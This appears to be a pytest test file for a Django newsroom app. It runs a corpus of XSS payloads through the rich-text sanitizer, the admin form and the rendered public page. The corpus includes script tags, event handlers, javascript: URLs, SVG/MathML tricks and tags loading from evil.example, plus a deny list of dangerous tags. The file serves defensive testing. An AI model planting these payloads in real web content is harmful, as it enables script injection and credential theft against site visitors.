"""Rich text against a corpus of XSS payloads: through the admin form, through the ORM and
on the rendered public page. Nothing that runs script survives; every link gets rel."""

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from articles.models import AnalysisBox, Article, Status
from articles.richtext import sanitize_html
from tests.factories import AnalysisBoxFactory, ArticleFactory, AuthorFactory, SectionFactory
from tests.test_admin_desk import ADD_URL, article_post

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">import("//evil.example")</script>',
    "<p>text<script>alert(1)</script></p>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img src=x onerror\t=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    '<p onclick="alert(1)" onmouseover=alert(1)>hover</p>',
    "<body onload=alert(1)>",
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="javascript:alert(1)">js</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="java&#x09;script:alert(1)">entity tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script&colon;alert(1)">hex</a>',
    '<a href="javascript&colon;alert(1)">named colon</a>',
    '<a href="\x01javascript:alert(1)">control char</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="javascript:alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><circle r=5></circle></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">m</math>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="width:expression(alert(1))">css expression</p>',
    '<p style="background:url(&quot;javascript:alert(1)&quot;)">css url</p>',
    '<div style="behavior:url(x.htc)">behaviour</div>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="//evil.example"><input name="password"><button>Go</button></form>',
    '<iframe src="//evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="//evil.example/x.swf"></object>',
    '<embed src="//evil.example/x.swf">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="https://ok.example" onfocus="alert(1)" autofocus>focus</a>',
    '<a href="https://ok.example" target="_blank" rel="opener">opener</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>unclosed <b><i>nested <script>alert(1)",
    "<<script>script>alert(1)<</script>/script>",
    '<img """><script>alert(1)</script>">',
    "<!--<script>alert(1)//--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<template><script>alert(1)</script></template>",
    '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
    '<video><source onerror="alert(1)"></video>',
    '<a href="https://ok.example">fine link</a>',
]

DANGEROUS_TAGS = {
    "script", "style", "iframe", "object", "embed", "base", "meta", "link", "form", "input",
    "button", "svg", "math", "template", "noscript", "frame", "frameset", "applet", "video",
    "audio", "source", "details", "body", "xss",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}


class _Inspector(HTMLParser):
    """Collects what a browser would act on: tags, attributes and resolved URLs."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.links = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "background"}:
                self.problems.append(f"{tag}[{name}]")
            if name in {"href", "src", "xlink:href", "action", "data"} and value:
                # Browsers drop whitespace and control characters before reading the scheme.
                url = re.sub(r"[\x00-\x20]", "", value).lower()
                scheme = url.split(":", 1)[0] if re.match(r"^[a-z][a-z0-9+.-]*:", url) else ""
                if scheme and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{tag}[{name}]={value!r}")
        if tag == "a":
            self.links.append(dict(attrs))


def inspect(html):
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def assert_harmless(html):
    found = inspect(html)
    assert found.problems == [], html
    for link in found.links:
        assert link.get("rel") == "noopener noreferrer", html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_saved_through_the_orm_is_harmless(payload):
    article = ArticleFactory(body=f"<p>Before.</p>{payload}<p>After.</p>")
    box = AnalysisBoxFactory(article=article, body=payload)
    article.refresh_from_db()
    box.refresh_from_db()
    assert_harmless(article.body)
    assert_harmless(box.body)
    assert article.body.startswith("<p>Before.</p>")  # unclosed payloads may swallow the rest


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitizing_is_stable(payload):
    once = sanitize_html(payload)
    assert sanitize_html(once) == once


def test_payloads_posted_through_the_admin_form_are_harmless(client, editor):
    section, author = SectionFactory(), AuthorFactory()
    client.force_login(editor)
    for index, payload in enumerate(PAYLOADS):
        data = article_post(
            section,
            [author],
            headline=f"Payload {index}",
            slug=f"payload-{index}",
            body=f"<p>Story.</p>{payload}",
            **{"analysis_boxes-0-body": payload or "<p>x</p>"},
        )
        response = client.post(ADD_URL, data)
        assert response.status_code in {200, 302}
        article = Article.objects.filter(slug=f"payload-{index}").first()
        if response.status_code == 200:
            # Refused (e.g. a box left empty after cleaning): said why, nothing saved.
            assert article is None
            assert response.context["errors"]
            continue
        assert_harmless(article.body)
        for box in article.analysis_boxes.all():
            assert_harmless(box.body)
    assert Article.objects.count() >= len(PAYLOADS) - 5


def test_the_public_page_is_safe_even_for_rows_written_around_save(client, settings):
    """Bulk imports and QuerySet.update() skip save(); the page cleans rich text again."""
    # update() also skips the signals that empty the page cache: render every request.
    settings.NEWSROOM_PAGE_CACHE = False
    article = ArticleFactory(published=True, body="<p>Clean.</p>")
    box = AnalysisBoxFactory(article=article, after_paragraph=1)
    # The page's own chrome (meta, link, the comment form) is the baseline.
    baseline = inspect(client.get(article.get_absolute_url()).content.decode()).problems
    # A link first: the unclosed payloads near the end swallow what follows them.
    corpus = '<p><a href="https://ok.example" rel="opener">ok</a></p>' + "".join(PAYLOADS)
    Article.objects.filter(pk=article.pk).update(body=f"<p>Clean.</p>{corpus}")
    AnalysisBox.objects.filter(pk=box.pk).update(body=corpus)

    page = client.get(article.get_absolute_url()).content.decode()

    found = inspect(page)
    assert found.problems == baseline
    # The one script element is the story's JSON-LD data, which browsers do not run.
    assert re.findall(r"<script[^>]*>", page.lower()) == ['<script type="application/ld+json">']
    story_links = [link for link in found.links if link.get("href") == "https://ok.example"]
    assert len(story_links) >= 2  # at least the one leading the body and the box
    assert all(link["rel"] == "noopener noreferrer" for link in story_links)


def test_links_the_editor_makes_keep_their_address_and_get_rel():
    article = ArticleFactory(body='<p><a href="https://example.com/a?b=1&amp;c=2">read</a></p>')
    article.refresh_from_db()
    assert article.body == (
        '<p><a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">read</a></p>'
    )


def test_the_admin_form_shows_the_cleaned_body(client, editor):
    article = ArticleFactory(status=Status.REVIEW, body='<p>ok</p><img src=x onerror="alert(1)">')
    client.force_login(editor)
    page = client.get(reverse("admin:articles_article_change", args=[article.pk]))
    assert "onerror" not in page.content.decode()
